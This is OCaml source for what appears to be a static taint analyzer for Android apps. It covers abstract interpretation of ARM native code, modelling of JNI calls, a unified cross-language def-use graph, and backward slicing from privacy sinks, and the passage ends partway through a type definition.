  | Insn.Reg r -> st.st_consts.(r)
  | Insn.Reg_shift_imm (r, Insn.LSL, n) -> (
    match st.st_consts.(r) with
    | Const v -> Const ((v lsl n) land mask32)
    | _ -> Unknown)
  | _ -> Unknown

let const_eval st op rn op2 =
  let ov = op2_const st op2 in
  match op with
  | Insn.MOV -> ov
  | Insn.ADD | Insn.ORR | Insn.SUB | Insn.EOR | Insn.AND | Insn.BIC -> (
    match (st.st_consts.(rn), ov) with
    | Const a, Const b ->
      let r =
        match op with
        | Insn.ADD -> a + b
        | Insn.ORR -> a lor b
        | Insn.SUB -> a - b
        | Insn.EOR -> a lxor b
        | Insn.AND -> a land b
        | Insn.BIC -> a land lnot b
        | _ -> 0
      in
      Const (r land mask32)
    | _ -> Unknown)
  | _ -> Unknown

(* host functions that return fresh handles and write nothing interesting *)
let clean_fns =
  [ "socket"; "connect"; "close"; "fclose"; "fopen"; "open"; "htons"; "htonl";
    "inet_addr"; "malloc"; "calloc"; "realloc"; "free"; "fflush" ]

let is_call_method name =
  String.length name > 4 && String.sub name 0 4 = "Call" && Jni_names.mem name

(* effect of one resolved host call on the abstract state; returns the
   return-value taint and the constant tracked for r0 *)
let host_effect actx ~site st name =
  let t i = st.st_regs.(i) in
  let mem () = actx.a_lib.nf_mem in
  let ctrl = st.st_ctrl in
  let args4 = unions [ t 0; t 1; t 2; t 3 ] in
  if Syscalls.is_sink name then begin
    let leak = unions [ args4; mem (); ctrl ] in
    if T.is_tainted leak then
      actx.a_env.e_record
        { Flow.f_taint = leak; f_sink = name; f_context = Flow.Native_ctx;
          f_site = site; f_hops = [] };
    (ctrl, Unknown)
  end
  else
    match name with
    | "FindClass" -> (
      match st.st_consts.(1) with
      | Const a -> (
        match Native_cfg.cstring_at actx.a_lib.nf_cfg a with
        | Some s -> (ctrl, Cls s)
        | None -> (ctrl, Unknown))
      | _ -> (ctrl, Unknown))
    | "GetMethodID" | "GetStaticMethodID" -> (
      match (st.st_consts.(1), st.st_consts.(2)) with
      | Cls cls, Const a -> (
        match Native_cfg.cstring_at actx.a_lib.nf_cfg a with
        | Some m -> (ctrl, Mid (cls, m))
        | None -> (ctrl, Unknown))
      | _ -> (ctrl, Unknown))
    | "NewStringUTF" | "NewString" ->
      (* the chars pointer's pointee lives in library memory *)
      (unions [ t 1; mem (); ctrl ], Unknown)
    | "GetStringUTFChars" | "GetStringChars" | "GetStringUTFLength"
    | "GetStringLength" | "GetStringUTFRegion" | "GetStringRegion" ->
      (T.union (t 1) ctrl, Unknown)
    | _ when is_call_method name -> (
      (* Call*Method(env, obj/cls, mid, args...): the supergraph back-edge *)
      match st.st_consts.(2) with
      | Mid (cls, m) ->
        (T.union (actx.a_env.e_upcall cls m [ t 3 ]) ctrl, Unknown)
      | _ -> (unions [ t 1; t 2; t 3; mem (); ctrl ], Unknown))
    | _ when List.mem name clean_fns -> (ctrl, Unknown)
    | _ ->
      (* any other modeled function may store its arguments *)
      set_mem actx (T.union args4 ctrl);
      (T.union args4 ctrl, Unknown)

let rec analyze_fn actx ~entry ~args ~ctrl =
  let cfg = actx.a_lib.nf_cfg in
  let entry = clearb entry in
  let mem () = actx.a_lib.nf_mem in
  if Hashtbl.mem actx.a_in_progress entry then
    (* recursion: sound summary of anything the callee could return *)
    T.union (unions args) (T.union (mem ()) ctrl)
  else begin
    Hashtbl.replace actx.a_in_progress entry ();
    let site =
      match Native_cfg.enclosing_symbol cfg entry with
      | Some s -> s
      | None -> Printf.sprintf "0x%x" entry
    in
    let states = Hashtbl.create 64 in
    let work = Queue.create () in
    let ret = ref T.clear in
    let init =
      { st_regs = Array.make 16 T.clear; st_consts = Array.make 16 Unknown;
        st_vfp = T.clear; st_ctrl = ctrl }
    in
    List.iteri (fun i t -> if i < 4 then init.st_regs.(i) <- t) args;
    Hashtbl.replace states entry init;
    Queue.add entry work;
    let push addr st =
      match Hashtbl.find_opt states addr with
      | None ->
        Hashtbl.replace states addr st;
        Queue.add addr work
      | Some old ->
        let joined, changed = join old st in
        if changed then begin
          Hashtbl.replace states addr joined;
          Queue.add addr work
        end
    in
    let record_exit st = ret := unions [ !ret; st.st_regs.(0); st.st_ctrl ] in
    let invalidate_call_consts st r0 =
      st.st_consts.(0) <- r0;
      st.st_consts.(1) <- Unknown;
      st.st_consts.(2) <- Unknown;
      st.st_consts.(3) <- Unknown;
      st.st_consts.(12) <- Unknown
    in
    let call_addr st a =
      (* call to an absolute address: local function or host function *)
      let args = [ st.st_regs.(0); st.st_regs.(1); st.st_regs.(2); st.st_regs.(3) ] in
      let rett, r0c =
        if Native_cfg.contains cfg a then
          (analyze_fn actx ~entry:a ~args ~ctrl:st.st_ctrl, Unknown)
        else
          match actx.a_env.e_resolve a with
          | Some name -> host_effect actx ~site st name
          | None ->
            (* unknown target: assume it stores and returns its arguments *)
            let at = unions args in
            set_mem actx (T.union at st.st_ctrl);
            (unions [ at; mem (); st.st_ctrl ], Unknown)
      in
      st.st_regs.(0) <- T.union rett st.st_ctrl;
      invalidate_call_consts st r0c
    in
    let step addr st insn size =
      let next = addr + size in
      let cnd = Insn.cond_of insn in
      (* for conditionally-executed non-branch instructions the
         not-executed path re-joins at [next] *)
      let finish st' =
        push next st';
        if cnd <> Insn.AL then push next (copy_state st)
      in
      match insn with
      | Insn.B { cond; link = false; offset } ->
        let tgt = Native_cfg.branch_target cfg ~addr ~size ~offset in
        if Native_cfg.contains cfg tgt then push (clearb tgt) (copy_state st)
        else record_exit st;
        if cond <> Insn.AL then push next (copy_state st)
      | Insn.B { link = true; offset; _ } ->
        let tgt = Native_cfg.branch_target cfg ~addr ~size ~offset in
        let st' = copy_state st in
        call_addr st' tgt;
        finish st'
      | Insn.Bx { link = true; rm; _ } ->
        let st' = copy_state st in
        (match st.st_consts.(rm) with
         | Const a -> call_addr st' a
         | _ ->
           let at = unions [ st.st_regs.(0); st.st_regs.(1); st.st_regs.(2);
                             st.st_regs.(3) ] in
           set_mem actx (T.union at st.st_ctrl);
           st'.st_regs.(0) <- unions [ at; mem (); st.st_ctrl ];
           invalidate_call_consts st' Unknown);
        finish st'
      | Insn.Bx { link = false; rm; _ } ->
        (match st.st_consts.(rm) with
         | Const a when rm <> 14 && Native_cfg.contains cfg a ->
           (* tail call into the library *)
           let st' = copy_state st in
           call_addr st' a;
           record_exit st'
         | _ -> record_exit st);
        if cnd <> Insn.AL then push next (copy_state st)
      | Insn.Block { load = true; rn; regs; writeback; _ } ->
        let st' = copy_state st in
        let base_t = st.st_regs.(rn) in
        let stack_t = if rn = 13 then actx.a_stack else T.clear in
        List.iter
          (fun r ->
            if r <> 15 then begin
              st'.st_regs.(r) <- unions [ mem (); base_t; stack_t; st.st_ctrl ];
              st'.st_consts.(r) <- Unknown
            end)
          (Insn.regs_of_mask regs);
        if writeback then st'.st_consts.(rn) <- Unknown;
        if regs land 0x8000 <> 0 then begin
          record_exit st';
          if cnd <> Insn.AL then push next (copy_state st)
        end
        else finish st'
      | Insn.Block { load = false; rn; regs; writeback; _ } ->
        let taint =
          List.fold_left
            (fun a r -> T.union a st.st_regs.(r))
            st.st_ctrl (Insn.regs_of_mask regs)
        in
        set_mem actx taint;
        let st' = copy_state st in
        if writeback then st'.st_consts.(rn) <- Unknown;
        finish st'
      | Insn.Mem { load = true; rd; rn; offset; writeback; _ } ->
        let off_t =
          match offset with
          | Insn.Off_reg (_, rm, _, _) -> st.st_regs.(rm)
          | Insn.Off_imm _ -> T.clear
        in
        let stack_t = if rn = 13 then actx.a_stack else T.clear in
        let v = unions [ mem (); st.st_regs.(rn); off_t; stack_t; st.st_ctrl ] in
        if rd = 15 then record_exit st
        else begin
          let st' = copy_state st in
          st'.st_regs.(rd) <- v;
          st'.st_consts.(rd) <- Unknown;
          if writeback then st'.st_consts.(rn) <- Unknown;
          finish st'
        end
      | Insn.Mem { load = false; rd; rn; offset; writeback; _ } ->
        let off_t =
          match offset with
          | Insn.Off_reg (_, rm, _, _) -> st.st_regs.(rm)
          | Insn.Off_imm _ -> T.clear
        in
        ignore off_t;
        ignore rn;
        set_mem actx (T.union st.st_regs.(rd) st.st_ctrl);
        let st' = copy_state st in
        if writeback then st'.st_consts.(rn) <- Unknown;
        finish st'
      | Insn.Dp { op; s; rd; rn; op2; _ } ->
        let o2t = op2_taint st op2 in
        let rnt = if Insn.is_move_op op then T.clear else st.st_regs.(rn) in
        if Insn.is_test_op op then begin
          (* flags computed from tainted data: every subsequent write is
             control-dependent on the data (the evasion-app rule) *)
          let st' = copy_state st in
          st'.st_ctrl <- unions [ st.st_ctrl; rnt; o2t ];
          finish st'
        end
        else begin
          let st' = copy_state st in
          if s then st'.st_ctrl <- unions [ st.st_ctrl; rnt; o2t ];
          if rd = 15 then record_exit st
          else begin
            st'.st_regs.(rd) <- unions [ rnt; o2t; st.st_ctrl ];
            st'.st_consts.(rd) <- const_eval st op rn op2;
            finish st'
          end
        end
      | Insn.Mul { s; rd; rm; rs; _ } ->
        let st' = copy_state st in
        if s then st'.st_ctrl <- unions [ st.st_ctrl; st.st_regs.(rm); st.st_regs.(rs) ];
        st'.st_regs.(rd) <- unions [ st.st_regs.(rm); st.st_regs.(rs); st.st_ctrl ];
        st'.st_consts.(rd) <- Unknown;
        finish st'
      | Insn.Mla { s; rd; rm; rs; rn; _ } ->
        let st' = copy_state st in
        let v = unions [ st.st_regs.(rm); st.st_regs.(rs); st.st_regs.(rn); st.st_ctrl ] in
        if s then st'.st_ctrl <- T.union st.st_ctrl v;
        st'.st_regs.(rd) <- v;
        st'.st_consts.(rd) <- Unknown;
        finish st'
      | Insn.Mull { s; rdlo; rdhi; rm; rs; _ } ->
        let st' = copy_state st in
        let v = unions [ st.st_regs.(rm); st.st_regs.(rs); st.st_ctrl ] in
        if s then st'.st_ctrl <- T.union st.st_ctrl v;
        st'.st_regs.(rdlo) <- v;
        st'.st_regs.(rdhi) <- v;
        st'.st_consts.(rdlo) <- Unknown;
        st'.st_consts.(rdhi) <- Unknown;
        finish st'
      | Insn.Clz { rd; rm; _ } ->
        let st' = copy_state st in
        st'.st_regs.(rd) <- T.union st.st_regs.(rm) st.st_ctrl;
        st'.st_consts.(rd) <- Unknown;
        finish st'
      | Insn.Svc _ -> finish (copy_state st)
      | Insn.Vdp _ | Insn.Vcvt _ | Insn.Vcvt_int _ -> finish (copy_state st)
      | Insn.Vmem { load = true; _ } ->
        let st' = copy_state st in
        st'.st_vfp <- unions [ st.st_vfp; mem (); st.st_ctrl ];
        finish st'
      | Insn.Vmem { load = false; _ } ->
        set_mem actx (T.union st.st_vfp st.st_ctrl);
        finish (copy_state st)
      | Insn.Vmov_core { to_core = true; rt; _ } ->
        let st' = copy_state st in
        st'.st_regs.(rt) <- T.union st.st_vfp st.st_ctrl;
        st'.st_consts.(rt) <- Unknown;
        finish st'
      | Insn.Vmov_core { to_core = false; rt; _ } ->
        let st' = copy_state st in
        st'.st_vfp <- T.union st.st_vfp st.st_regs.(rt);
        finish st'
    in
    let continue_ = ref true in
    while !continue_ && not (Queue.is_empty work) do
      if actx.a_fuel <= 0 then continue_ := false
      else begin
        actx.a_fuel <- actx.a_fuel - 1;
        let addr = Queue.pop work in
        match Hashtbl.find_opt states addr with
        | None -> ()
        | Some st -> (
          match Native_cfg.insn_at cfg addr with
          | None -> record_exit st  (* fell off into data: treat as return *)
          | Some (insn, size) -> step addr st insn size)
      end
    done;
    if actx.a_fuel <= 0 then
      (* ran out of budget: stay sound by over-approximating the result *)
      ret := unions (!ret :: mem () :: ctrl :: args);
    Hashtbl.remove actx.a_in_progress entry;
    !ret
  end

let analyze_entry env lib ~entry ~args ~stack =
  let actx =
    { a_env = env; a_lib = lib; a_stack = stack; a_fuel = 200_000;
      a_in_progress = Hashtbl.create 8 }
  in
  let args4 =
    let a = Array.make 4 T.clear in
    List.iteri (fun i t -> if i < 4 then a.(i) <- t) args;
    Array.to_list a
  in
  (* iterate to a fixpoint over the abstract memory cell: a load placed
     before a store in the sweep must observe the store's taint *)
  let rec go i acc =
    let before = T.to_bits lib.nf_mem in
    let r = T.union acc (analyze_fn actx ~entry ~args:args4 ~ctrl:T.clear) in
    if T.to_bits lib.nf_mem <> before && i < 6 then go (i + 1) r else r
  in
  go 0 T.clear
