module H = Ndroid_apps.Harness
module Device = Ndroid_runtime.Device
module Syscalls = Ndroid_android.Syscalls
module Jni_names = Ndroid_jni.Jni_names

let input_of_app (app : H.app) =
  let device = Device.create () in
  Device.install_classes device app.H.classes;
  let machine = Device.machine device in
  let extern n =
    match Device.Machine.host_fn_addr machine n with
    | addr -> Some addr
    | exception Not_found -> None
  in
  let libs = app.H.build_libs extern in
  (* invert the host-function table over every name the device can mount *)
  let inverse = Hashtbl.create 256 in
  let candidates =
    Syscalls.hooked @ Syscalls.modeled_libc @ Syscalls.modeled_libm
    @ List.map fst Jni_names.functions
  in
  List.iter
    (fun n ->
      match extern n with
      | Some a -> if not (Hashtbl.mem inverse a) then Hashtbl.add inverse a n
      | None -> ())
    candidates;
  { Analyzer.in_name = app.H.app_name;
    in_classes = app.H.classes;
    in_libs = libs;
    in_entries = [ app.H.entry ];
    in_resolve =
      (fun a ->
        match Hashtbl.find_opt inverse a with
        | Some n -> Some n
        | None -> Hashtbl.find_opt inverse (a land lnot 1)) }

let verdict_of_app app = Analyzer.analyze (input_of_app app)
