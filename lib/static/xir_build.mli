(** Lowering the per-language analyses into one {!Xir} graph.

    The Java side is rebuilt from the dex CFGs' reaching definitions
    (invoke classification mirrors {!Dex_flow}'s); the native side replays
    cross-boundary [facts] the analyzer recorded while its abstract
    interpretation ran — which exported function upcalled what, and which
    reached a host sink. *)

type facts

val facts_create : unit -> facts

val record_upcall :
  facts -> lib:string -> entry:string -> cls:string -> m:string -> unit
(** A native [Call*Method] upcall into an app bytecode method. *)

val record_upcall_source :
  facts -> lib:string -> entry:string -> cls:string -> m:string -> unit
(** An upcall that resolved to a catalogued privacy source. *)

val record_upcall_sink :
  facts -> lib:string -> entry:string -> sink:string -> site:string -> unit
(** An upcall that resolved to a catalogued sink ([sink]/[site] exactly as
    the recorded {!Flow.t} spells them). *)

val record_native_sink :
  facts -> lib:string -> entry:string -> sym:string -> sink:string -> unit
(** A host-function sink reached inside native code; [sym] is the
    enclosing symbol (the flow's site), [entry] the exported function the
    crossing entered through. *)

val aapcs_label : Ndroid_dalvik.Classes.method_def -> string
(** The Java→native argument mapping for a crossing's [Jni_down] label. *)

val build :
  cg:Callgraph.t ->
  bind:(string -> string option) ->
  libs:(string * string list) list ->
  facts:facts ->
  Xir.t
(** Build the graph: [cg] supplies the Java side, [bind] maps a native
    symbol to its library, [libs] lists each library's exported symbols
    (for [System.load*] → [JNI_OnLoad] edges), [facts] the recorded
    native-side facts. *)
