(* Lowering the two per-language analyses into one {!Xir} graph.

   The Java side is recomputed from the dex CFGs (reaching definitions give
   the intra-method def-use edges; invoke classification mirrors
   {!Dex_flow}'s).  The native side cannot be cheaply recomputed — which
   exported function upcalls what, and which hits a host sink, only falls
   out of the abstract interpretation — so the analyzer records those as
   [facts] while it runs and this module replays them into the graph. *)

module B = Ndroid_dalvik.Bytecode
module Classes = Ndroid_dalvik.Classes

(* ---- cross-boundary facts recorded during analysis ---- *)

type facts = {
  fx_seen : (string, unit) Hashtbl.t;
  mutable fx_upcalls : (string * string * string * string) list;
      (* lib, entry symbol, callee class, callee method *)
  mutable fx_upcall_sources : (string * string * string * string) list;
      (* lib, entry symbol, source class, source method *)
  mutable fx_upcall_sinks : (string * string * string * string) list;
      (* lib, entry symbol, flow sink name, flow site *)
  mutable fx_native_sinks : (string * string * string * string) list;
      (* lib, entry symbol, enclosing symbol, sink name *)
}

let facts_create () =
  { fx_seen = Hashtbl.create 16;
    fx_upcalls = [];
    fx_upcall_sources = [];
    fx_upcall_sinks = [];
    fx_native_sinks = [] }

let once fx key add =
  if not (Hashtbl.mem fx.fx_seen key) then begin
    Hashtbl.replace fx.fx_seen key ();
    add ()
  end

let record_upcall fx ~lib ~entry ~cls ~m =
  once fx (String.concat "\x01" [ "u"; lib; entry; cls; m ]) (fun () ->
      fx.fx_upcalls <- (lib, entry, cls, m) :: fx.fx_upcalls)

let record_upcall_source fx ~lib ~entry ~cls ~m =
  once fx (String.concat "\x01" [ "s"; lib; entry; cls; m ]) (fun () ->
      fx.fx_upcall_sources <- (lib, entry, cls, m) :: fx.fx_upcall_sources)

let record_upcall_sink fx ~lib ~entry ~sink ~site =
  once fx (String.concat "\x01" [ "k"; lib; entry; sink; site ]) (fun () ->
      fx.fx_upcall_sinks <- (lib, entry, sink, site) :: fx.fx_upcall_sinks)

let record_native_sink fx ~lib ~entry ~sym ~sink =
  once fx (String.concat "\x01" [ "n"; lib; entry; sym; sink ]) (fun () ->
      fx.fx_native_sinks <- (lib, entry, sym, sink) :: fx.fx_native_sinks)

(* ---- graph construction ---- *)

(* the JNI calling convention a Java->native crossing maps arguments
   through: r0 = JNIEnv*, r1 = this/cls, first two params in r2/r3, the
   rest on the stack *)
let aapcs_label (def : Classes.method_def) =
  let params =
    Classes.ins_count def - if def.Classes.m_static then 0 else 1
  in
  let buf = Buffer.create 32 in
  Buffer.add_string buf "env->r0; ";
  Buffer.add_string buf (if def.Classes.m_static then "cls->r1" else "this->r1");
  for i = 0 to params - 1 do
    Buffer.add_string buf
      (if i = 0 then "; p0->r2"
       else if i = 1 then "; p1->r3"
       else Printf.sprintf "; p%d->[sp+%d]" i ((i - 2) * 4))
  done;
  Buffer.contents buf

let crossing_down ~caller ~sym = caller ^ " => " ^ sym
let crossing_up ~sym ~cls ~m = sym ^ " => " ^ cls ^ "->" ^ m ^ " (upcall)"
let crossing_load ~caller ~lib = caller ^ " => JNI_OnLoad (" ^ lib ^ ")"

let build ~cg ~(bind : string -> string option)
    ~(libs : (string * string list) list) ~(facts : facts) =
  let g = Xir.create () in
  let onload_libs =
    List.filter_map
      (fun (name, syms) ->
        if List.mem "JNI_OnLoad" syms then Some name else None)
      libs
  in
  let lib_of sym = match bind sym with Some l -> l | None -> "?" in
  (* ---- Java side: one pass per bytecode method ---- *)
  Hashtbl.iter
    (fun (cls, name) (def : Classes.method_def) ->
      match def.Classes.m_body with
      | Classes.Native _ | Classes.Intrinsic _ -> ()
      | Classes.Bytecode (code, handlers) when Array.length code > 0 ->
        let qname = Classes.qualified_name def in
        let mnode = Xir.Method (cls, name) in
        let dnode pc = Xir.Def (cls, name, pc) in
        Xir.add_edge g mnode Xir.Defuse (dnode (-1));
        let cfg = Dex_cfg.of_code ~handlers code in
        Array.iteri
          (fun pc insn ->
            (* intra-method def-use edges from reaching definitions *)
            List.iter
              (fun reg ->
                List.iter
                  (fun d -> Xir.add_edge g (dnode d) Xir.Defuse (dnode pc))
                  (Dex_cfg.reaching_defs cfg pc reg))
              (Dex_cfg.uses insn);
            match insn with
            | B.Invoke (_, mref, _) -> (
              let mcls = mref.B.m_class and mm = mref.B.m_name in
              match Dex_flow.source_tag mcls mm with
              | Some _ ->
                Xir.add_edge g
                  (Xir.Source (qname, mcls ^ "->" ^ mm))
                  Xir.Src (dnode pc)
              | None ->
                if Dex_flow.is_sink mcls mm then
                  Xir.add_edge g (dnode pc) Xir.Snk
                    (Xir.Sink (Dex_flow.short_sink_name mcls mm, qname))
                else if Dex_flow.is_load_call mcls mm then
                  List.iter
                    (fun lib ->
                      let c =
                        Xir.Crossing (crossing_load ~caller:qname ~lib)
                      in
                      Xir.add_edge g (dnode pc) Xir.Load c;
                      Xir.add_edge g c Xir.Load (Xir.Native (lib, "JNI_OnLoad")))
                    onload_libs
                else (
                  match Callgraph.find_method cg (mcls, mm) with
                  | Some callee -> (
                    match callee.Classes.m_body with
                    | Classes.Native sym ->
                      let c =
                        Xir.Crossing (crossing_down ~caller:qname ~sym)
                      in
                      let n = Xir.Native (lib_of sym, sym) in
                      Xir.add_edge g (dnode pc)
                        (Xir.Jni_down (aapcs_label callee))
                        c;
                      Xir.add_edge g c (Xir.Jni_down (aapcs_label callee)) n;
                      Xir.add_edge g n Xir.Ret (dnode pc)
                    | Classes.Bytecode _ ->
                      let callee_node = Xir.Method (mcls, mm) in
                      Xir.add_edge g (dnode pc) Xir.Call callee_node;
                      Xir.add_edge g callee_node Xir.Ret (dnode pc)
                    | Classes.Intrinsic _ -> ())
                  | None -> ()))
            | B.Iget (_, _, f) | B.Sget (_, f) ->
              Xir.add_edge g
                (Xir.Field (f.B.f_class, f.B.f_name))
                Xir.Heap (dnode pc)
            | B.Iput (_, _, f) | B.Sput (_, f) ->
              Xir.add_edge g (dnode pc) Xir.Heap
                (Xir.Field (f.B.f_class, f.B.f_name))
            | B.Aget _ -> Xir.add_edge g Xir.Arrays Xir.Heap (dnode pc)
            | B.Aput _ -> Xir.add_edge g (dnode pc) Xir.Heap Xir.Arrays
            | B.Throw _ -> Xir.add_edge g (dnode pc) Xir.Heap Xir.Exn
            | B.Move_exception _ -> Xir.add_edge g Xir.Exn Xir.Heap (dnode pc)
            | _ -> ())
          code
      | Classes.Bytecode _ -> ())
    (Callgraph.methods cg);
  (* ---- native side: replay the recorded cross-boundary facts ---- *)
  List.iter
    (fun (lib, entry, cls, m) ->
      let n = Xir.Native (lib, entry) in
      let c = Xir.Crossing (crossing_up ~sym:entry ~cls ~m) in
      Xir.add_edge g n Xir.Jni_up c;
      Xir.add_edge g c Xir.Jni_up (Xir.Method (cls, m));
      Xir.add_edge g (Xir.Method (cls, m)) Xir.Ret n)
    facts.fx_upcalls;
  List.iter
    (fun (lib, entry, cls, m) ->
      Xir.add_edge g
        (Xir.Source (entry, cls ^ "->" ^ m))
        Xir.Src
        (Xir.Native (lib, entry)))
    facts.fx_upcall_sources;
  List.iter
    (fun (lib, entry, sink, site) ->
      Xir.add_edge g (Xir.Native (lib, entry)) Xir.Snk (Xir.Sink (sink, site)))
    facts.fx_upcall_sinks;
  List.iter
    (fun (lib, entry, sym, sink) ->
      let inner = Xir.Native (lib, sym) in
      if sym <> entry then
        Xir.add_edge g (Xir.Native (lib, entry)) Xir.Call inner;
      Xir.add_edge g inner Xir.Snk (Xir.Sink (sink, sym)))
    facts.fx_native_sinks;
  g
