(** The unified cross-language IR (the JuCify direction).

    One SSA-ish def-use graph covering both sides of the JNI boundary:
    Java-side definition sites linked by the dex CFG's reaching
    definitions, native exported functions carrying the analyzer's
    Table-V abstract facts, and explicit crossing nodes for both
    directions of the supergraph (Java→native calls with their AAPCS
    argument mapping, native→Java [Call*Method] upcalls).  {!Slice}
    walks it backward from sinks to compute focus sets. *)

type node =
  | Method of string * string  (** Dalvik method entry: class, name *)
  | Def of string * string * int
      (** definition site: class, method, pc ([-1] = parameters) *)
  | Native of string * string  (** native function: lib, symbol *)
  | Crossing of string  (** JNI boundary crossing label *)
  | Source of string * string  (** source call site and catalog name *)
  | Sink of string * string  (** sink: flow sink name, flow site *)
  | Field of string * string  (** heap summary cell: class, field *)
  | Arrays  (** the one summary cell for all array contents *)
  | Exn  (** pending-exception summary cell *)

type edge =
  | Defuse
  | Call
  | Ret
  | Jni_down of string  (** labelled with the AAPCS argument mapping *)
  | Jni_up
  | Src
  | Snk
  | Heap
  | Load

type t

val create : unit -> t

val add_node : t -> node -> int
(** Id of the node, interning it on first sight. *)

val add_edge : t -> node -> edge -> node -> unit
(** Add (and dedup) one labelled edge; interns both endpoints. *)

val node_id : t -> node -> int option
val node_of : t -> int -> node option
val succs : t -> int -> (int * edge) list
val preds : t -> int -> (int * edge) list
val node_count : t -> int
val edge_count : t -> int
val iter_nodes : t -> (int -> node -> unit) -> unit
val fold_nodes : t -> (int -> node -> 'a -> 'a) -> 'a -> 'a

val select : t -> (node -> bool) -> int list
(** Ids of every node satisfying the predicate. *)

val edge_name : edge -> string
val pp_node : Format.formatter -> node -> unit
val pp : Format.formatter -> t -> unit
