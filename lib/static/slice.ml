(* Backward slicing over the {!Xir} graph.

   The slice is the intersection of forward reachability from every source
   node and backward reachability from every sink node — the nodes on some
   feasible source->sink path.  Its projection onto Dalvik methods, native
   exported functions and JNI crossings is the focus set handed to the
   dynamic tracker; a per-sink backward search inside the slice also yields
   the hop chain serialized as a static flow's provenance. *)

module Focus = Ndroid_report.Focus
module Flow = Ndroid_report.Flow

type t = {
  sl_xir : Xir.t;
  sl_fwd : (int, unit) Hashtbl.t;  (* reachable from any source *)
  sl_bwd : (int, unit) Hashtbl.t;  (* reaches any sink *)
}

let bfs g start ~next =
  let seen = Hashtbl.create 64 in
  let q = Queue.create () in
  List.iter
    (fun id ->
      if not (Hashtbl.mem seen id) then begin
        Hashtbl.replace seen id ();
        Queue.add id q
      end)
    start;
  while not (Queue.is_empty q) do
    let id = Queue.pop q in
    List.iter
      (fun (d, _) ->
        if not (Hashtbl.mem seen d) then begin
          Hashtbl.replace seen d ();
          Queue.add d q
        end)
      (next g id)
  done;
  seen

let compute g =
  let sources = Xir.select g (function Xir.Source _ -> true | _ -> false) in
  let sinks = Xir.select g (function Xir.Sink _ -> true | _ -> false) in
  { sl_xir = g;
    sl_fwd = bfs g sources ~next:Xir.succs;
    sl_bwd = bfs g sinks ~next:Xir.preds }

let in_slice t id = Hashtbl.mem t.sl_fwd id && Hashtbl.mem t.sl_bwd id

(* ---- focus projection ---- *)

let focus_of_nodes nodes =
  let methods = ref [] and natives = ref [] and crossings = ref [] in
  List.iter
    (fun node ->
      match node with
      | Xir.Method (c, m) | Xir.Def (c, m, _) ->
        methods := (c ^ "->" ^ m) :: !methods
      | Xir.Native (_, sym) -> natives := sym :: !natives
      | Xir.Crossing label -> crossings := label :: !crossings
      | Xir.Source _ | Xir.Sink _ | Xir.Field _ | Xir.Arrays | Xir.Exn -> ())
    nodes;
  Focus.make ~methods:(List.rev !methods) ~natives:(List.rev !natives)
    ~crossings:(List.rev !crossings)

let focus t =
  Xir.fold_nodes t.sl_xir
    (fun id node acc -> if in_slice t id then node :: acc else acc)
    []
  |> List.sort compare |> focus_of_nodes

let full g =
  Xir.fold_nodes g (fun _ node acc -> node :: acc) []
  |> List.sort compare |> focus_of_nodes

(* ---- provenance hops ---- *)

let hop kind site = { Flow.h_kind = kind; h_site = site }

let hop_of_node = function
  | Xir.Source (site, name) -> Some (hop "source" (name ^ " @ " ^ site))
  | Xir.Method (c, m) -> Some (hop "dalvik" (c ^ "->" ^ m))
  | Xir.Def (c, m, pc) ->
    Some
      (hop "dalvik"
         (if pc < 0 then c ^ "->" ^ m
          else Printf.sprintf "%s->%s@%d" c m pc))
  | Xir.Crossing label -> Some (hop "jni" label)
  | Xir.Native (lib, sym) -> Some (hop "native" (sym ^ " (" ^ lib ^ ")"))
  | Xir.Field (c, f) -> Some (hop "dalvik" ("field " ^ c ^ "." ^ f))
  | Xir.Arrays -> Some (hop "dalvik" "array cell")
  | Xir.Exn -> Some (hop "dalvik" "exception cell")
  | Xir.Sink (name, site) -> Some (hop "sink" (name ^ " -> " ^ site))

(* collapse runs of hops inside the same method so the chain reads
   source -> method -> crossing -> native -> sink, not one hop per pc *)
let method_key = function
  | Xir.Method (c, m) | Xir.Def (c, m, _) -> Some (c ^ "->" ^ m)
  | _ -> None

let hops_of_path nodes =
  let rec go prev_key acc = function
    | [] -> List.rev acc
    | node :: rest -> (
      let key = method_key node in
      match (key, prev_key) with
      | Some k, Some k' when k = k' -> go prev_key acc rest
      | _ -> (
        match hop_of_node node with
        | Some h -> go key (h :: acc) rest
        | None -> go key acc rest))
  in
  go None [] nodes

(* shortest source->sink path through the slice, found backward from the
   sink with parent pointers *)
let path_to_sink t sink_id =
  if not (Hashtbl.mem t.sl_fwd sink_id) then None
  else begin
    let parent = Hashtbl.create 64 in
    let q = Queue.create () in
    Hashtbl.replace parent sink_id sink_id;
    Queue.add sink_id q;
    let found = ref None in
    while !found = None && not (Queue.is_empty q) do
      let id = Queue.pop q in
      (match Xir.node_of t.sl_xir id with
       | Some (Xir.Source _) -> found := Some id
       | _ ->
         List.iter
           (fun (p, _) ->
             if Hashtbl.mem t.sl_fwd p && not (Hashtbl.mem parent p) then begin
               Hashtbl.replace parent p id;
               Queue.add p q
             end)
           (Xir.preds t.sl_xir id))
    done;
    match !found with
    | None -> None
    | Some src ->
      let rec walk id acc =
        let nxt = Hashtbl.find parent id in
        let acc =
          match Xir.node_of t.sl_xir id with
          | Some n -> n :: acc
          | None -> acc
        in
        if nxt = id then List.rev acc else walk nxt acc
      in
      (* walk follows parent pointers sink-ward and reverses, so the
         result is already in source->sink order *)
      Some (walk src [])
  end

let sink_id t (f : Flow.t) =
  Xir.node_id t.sl_xir (Xir.Sink (f.Flow.f_sink, f.Flow.f_site))

let hops_for t (f : Flow.t) =
  match sink_id t f with
  | None -> None
  | Some id -> Option.map hops_of_path (path_to_sink t id)

let annotate t flows =
  let covered = ref true in
  let flows =
    List.map
      (fun (f : Flow.t) ->
        if f.Flow.f_hops <> [] then f
        else
          match hops_for t f with
          | Some hops -> { f with Flow.f_hops = hops }
          | None ->
            covered := false;
            f)
      flows
  in
  (flows, !covered)
