module Taint = Ndroid_taint.Taint
module T = Taint
module Classes = Ndroid_dalvik.Classes
module Dexfile = Ndroid_dalvik.Dexfile
module Asm = Ndroid_arm.Asm
module Sofile = Ndroid_arm.Sofile
module Sources = Ndroid_android.Sources
module Sinks = Ndroid_android.Sinks
module Classifier = Ndroid_corpus.Classifier
module Apk = Ndroid_corpus.Apk

type input = {
  in_name : string;
  in_classes : Classes.class_def list;
  in_libs : (string * Asm.program) list;
  in_entries : (string * string) list;
  in_resolve : int -> string option;
}

type verdict = {
  v_name : string;
  v_classification : Classifier.classification option;
  v_result : Ndroid_report.Verdict.t;
  v_loads_library : bool;
  v_jni_sites : int;
  v_methods : int;
  v_native_insns : int;
  v_rounds : int;
  v_focus : Ndroid_report.Focus.t;
